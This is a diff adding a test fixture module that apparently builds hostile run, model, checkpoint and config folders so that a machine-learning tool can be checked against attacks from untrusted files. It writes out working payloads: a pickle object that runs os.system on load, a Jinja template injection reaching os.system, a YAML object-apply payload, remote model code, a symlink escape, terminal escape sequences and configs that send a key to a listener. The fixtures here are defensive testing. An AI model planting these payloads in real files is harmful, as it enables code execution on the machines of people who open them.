@@ -1,0 +1,238 @@
+"""Folders and files that a stranger could send: each tries to act on the machine of the user who reads it.
+
+A payload writes a file into the folder of marks, sends a request to a listener, or prints a control character. Covered:
+runs, results, models, checkpoints, problems, recipes and pipelines. Not covered: text that attacks a page
+(``hostile_run``), programs that attack the sandbox.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import pickle
+import shutil
+from collections.abc import Callable, Mapping
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+ESCAPES = "\x1b]0;title\x07\x1b[2J\x1b]52;c;ZXZpbA==\x07\x9b31m\u202e"
+PLANTED = "planted-secret-5c1f9a"
+VARIABLE = "PLANTED_KEY"
+"""A variable of the environment whose value is ``PLANTED``."""
+_PAYLOAD = """
+import sys
+open({mark!r}, "a").write("import " + " ".join(sys.argv[:1]) + "\\n")
+class V:
+    def __init__(self, *args, **options): pass
+    def __call__(self, *args, **options): return True
+"""
+_MODEL_CODE = """
+open({mark!r}, "a").write("model\\n")
+from transformers import Qwen3Config, Qwen3ForCausalLM
+class EvilConfig(Qwen3Config): model_type = "evil"
+class EvilModel(Qwen3ForCausalLM): config_class = EvilConfig
+"""
+_TEMPLATE = (
+    "{{{{ cycler.__init__.__globals__.os.system('touch {mark}') }}}}"
+    "{{% for m in messages %}}{{{{ m.content }}}}{{% endfor %}}"
+)
+
+
+@dataclass(frozen=True)
+class Scene:
+    """What the folders are made from.
+
+    Attributes:
+        evaluation: The folder of an evaluation that nothing is wrong with.
+        model: The folder of a small model.
+        machine: The file that ``rstar2 doctor --json`` printed.
+        marks: The folder into which payloads write.
+        listener: Address to which nothing may be sent.
+    """
+
+    evaluation: Path
+    model: Path
+    machine: Path
+    marks: Path
+    listener: str
+
+    def mark(self, name: str) -> str:
+        """The file that a payload writes."""
+        return str(self.marks / name)
+
+
+class Payload:
+    """Runs a command when it is unpickled."""
+
+    def __init__(self, command: str) -> None:
+        self.command = command
+
+    def __reduce__(self) -> tuple[Any, ...]:
+        return os.system, (self.command,)
+
+
+def _evaluation(options: Mapping[str, Any], act: Callable[[dict[str, Any]], None] = lambda line: None) -> Any:
+    def make(folder: Path, scene: Scene) -> None:
+        shutil.copytree(scene.evaluation, folder)
+        code = folder / "payload.py"
+        code.write_text(_PAYLOAD.format(mark=scene.mark(folder.name)))
+        text = json.dumps(options).replace("CODE", f"{code}:V").replace("LISTENER", scene.listener)
+        config = json.loads((folder / "config.json").read_text())
+        config |= json.loads(text)
+        (folder / "config.json").write_text(json.dumps(config))
+        file = folder / "episodes" / "eval-000000.jsonl"
+        lines = [json.loads(line) for line in file.read_text().splitlines()]
+        for line in lines:
+            line["run"] |= json.loads(text)
+            act(line)
+        mark = scene.mark(folder.name)
+        file.write_text("".join(json.dumps(line).replace("MARK", mark) + "\n" for line in lines))
+
+    return make
+
+
+def _writes(line: dict[str, Any]) -> None:
+    """Let the first turn call the tool with a program that writes the mark."""
+    call = {"name": "execute_python_code_with_standard_io", "arguments": {"code": "open('MARK','a')", "input": ""}}
+    turn = next(message for message in line["messages"] if message["role"] == "assistant")
+    turn["content"] = f"<reason>x</reason>\n<tool_call>\n{json.dumps(call)}\n</tool_call>"
+
+
+def _asks(line: dict[str, Any]) -> None:
+    """Give an answer that only a model can grade."""
+    line["gold"], line["answer"] = "the set of all prime numbers", "primes; every one of them"
+
+
+def _escapes(line: dict[str, Any]) -> None:
+    for name in ("problem_id", "answer", "end", "gold"):
+        line[name] = f"{line[name]}{ESCAPES}"
+    for message in line["messages"]:
+        message["content"] += ESCAPES
+
+
+def _training(model: Mapping[str, Any], parts: Mapping[str, Any] | None = None) -> Callable[[Path, Scene], None]:
+    def make(folder: Path, scene: Scene) -> None:
+        folder.mkdir()
+        identity = {"format": "rstar2-env/run", "version": 1, "kind": "training", "config": "config.json"}
+        (folder / "run.json").write_text(json.dumps(identity))
+        code = folder / "payload.py"
+        code.write_text(_PAYLOAD.format(mark=scene.mark(folder.name)))
+        config = {"trainer": "grpo", "model": {"path": str(scene.model), **model}, "parts": dict(parts or {})}
+        (folder / "config.json").write_text(json.dumps(config).replace("CODE", f"{code}:V"))
+        (folder / "metrics.jsonl").write_text('{"step": 1, "loss": 0.5}\n')
+        events = [
+            {"event": "checkpoint", "path": "checkpoint-1", "step": 1, "time": "x"},
+            {"event": "saved", "path": "final", "step": 1, "time": "x"},
+        ]
+        (folder / "events.jsonl").write_text("".join(json.dumps(event) + "\n" for event in events))
+        shutil.copytree(scene.model, folder / "final")
+        (folder / "checkpoint-1").mkdir()
+        (folder / "checkpoint-1" / "complete.json").write_text("{}")
+
+    return make
+
+
+def _with_model_code(folder: Path, scene: Scene) -> None:
+    _training({"trust_remote_code": True})(folder, scene)
+    _add_code(folder / "final", scene, folder.name)
+
+
+def _add_code(model: Path, scene: Scene, name: str) -> None:
+    config = json.loads((model / "config.json").read_text())
+    config |= {"model_type": "evil", "architectures": ["EvilModel"]}
+    config["auto_map"] = {"AutoConfig": "evil.EvilConfig", "AutoModelForCausalLM": "evil.EvilModel"}
+    (model / "config.json").write_text(json.dumps(config))
+    (model / "evil.py").write_text(_MODEL_CODE.format(mark=scene.mark(name)))
+
+
+def _pickled_shards(folder: Path, scene: Scene) -> None:
+    _training({})(folder, scene)
+    shards = folder / "checkpoint-1" / "shards"
+    shards.mkdir()
+    payload = Payload(f"touch {scene.mark(folder.name)}")
+    (shards / ".metadata").write_bytes(pickle.dumps(payload))
+    for name in ("optimizer.pt", "scheduler.pt", "rng_state.pth", "training_args.bin"):
+        (folder / "checkpoint-1" / name).write_bytes(pickle.dumps(payload))
+    shutil.rmtree(folder / "final")
+
+
+def _link(folder: Path, scene: Scene) -> None:
+    secret = folder.parent / f"{folder.name}-outside.py"
+    secret.write_text(f"# {PLANTED}")
+    shutil.copytree(scene.model, folder)
+    (folder / "x.py").symlink_to(secret)
+
+
+def _model(folder: Path, scene: Scene) -> None:
+    """A model with code of its own, a template that leaves Jinja, and pickled weights."""
+    shutil.copytree(scene.model, folder)
+    (folder / "chat_template.jinja").write_text(_TEMPLATE.format(mark=scene.mark(folder.name)))
+    config = json.loads((folder / "tokenizer_config.json").read_text())
+    config["chat_template"] = _TEMPLATE.format(mark=scene.mark(folder.name))
+    (folder / "tokenizer_config.json").write_text(json.dumps(config))
+
+
+def _model_code(folder: Path, scene: Scene) -> None:
+    shutil.copytree(scene.model, folder)
+    _add_code(folder, scene, folder.name)
+
+
+def _pickled_model(folder: Path, scene: Scene) -> None:
+    shutil.copytree(scene.model, folder)
+    for file in folder.glob("*.safetensors"):
+        file.unlink()
+    (folder / "pytorch_model.bin").write_bytes(pickle.dumps(Payload(f"touch {scene.mark(folder.name)}")))
+
+
+def _yaml(folder: Path, scene: Scene) -> None:
+    folder.mkdir()
+    text = f"trainer: grpo\nmodel: !!python/object/apply:os.system ['touch {scene.mark(folder.name)}']\n"
+    (folder / "file.yaml").write_text(text)
+
+
+def _recipe(folder: Path, scene: Scene) -> None:
+    folder.mkdir()
+    code = folder / "payload.py"
+    code.write_text(_PAYLOAD.format(mark=scene.mark(folder.name)))
+    (folder / "file.toml").write_text(f'trainer = "grpo"\n[parts]\nselector = "{code}:V"\n')
+
+
+def _problems(folder: Path, scene: Scene) -> None:
+    folder.mkdir()
+    code = folder / "payload.py"
+    code.write_text(_PAYLOAD.format(mark=scene.mark(folder.name)))
+    own = f"{code}:V"
+    line = {"question": f"1+1? {ESCAPES}", "answer": "2", "id": f"p{ESCAPES}", "verifier": own, "dialect": own}
+    (folder / "file.jsonl").write_text(json.dumps({**line, "env": own, "tools": [own], "__class__": own}) + "\n")
+
+
+FOLDERS: dict[str, Callable[[Path, Scene], None]] = {
+    "env": _evaluation({"env": "CODE"}),
+    "verifier": _evaluation({"env_options": {"verifier": "CODE"}}),
+    "dialect": _evaluation({"env_options": {"dialect": "CODE"}}),
+    "wrapper": _evaluation({"wrappers": ["CODE"]}),
+    "agent": _evaluation({"agent": "CODE", "judge": "CODE", "scores": ["CODE"], "env_options": {"judge": "CODE"}}),
+    "module": _evaluation({"env": "os:system", "env_options": {"verifier": "antigravity:V"}}),
+    "isolation": _evaluation({"env_options": {"sandbox": {"provider": "local", "isolation": "none"}}}, _writes),
+    "address": _evaluation({"env_options": {"verifier": f"model:url=LISTENER,model=x,api_key_env={VARIABLE}"}}, _asks),
+    "sender": _evaluation({"env_options": {"sandbox": {"provider": "remote", "url": "LISTENER"}}}, _writes),
+    "escapes": _evaluation({"env": f"x{ESCAPES}", "agent": ESCAPES}, _escapes),
+    "parts": _training({}, {"selector": {"name": "CODE"}, "hook": ["CODE"]}),
+    "trust_remote_code": _with_model_code,
+    "pickles": _pickled_shards,
+    "link": _link,
+    "template": _model,
+    "model_code": _model_code,
+    "pickled_model": _pickled_model,
+    "yaml": _yaml,
+    "recipe": _recipe,
+    "problems": _problems,
+}
+"""What is wrong with a folder, and the function that makes it."""
+
+
+def file_in(folder: Path) -> Path:
+    """The file that a command is given where it takes a file: the one in the folder, or the folder itself."""
+    inside = [*folder.glob("file.*"), *folder.glob("episodes/*.jsonl")]
+    return inside[0] if inside else folder
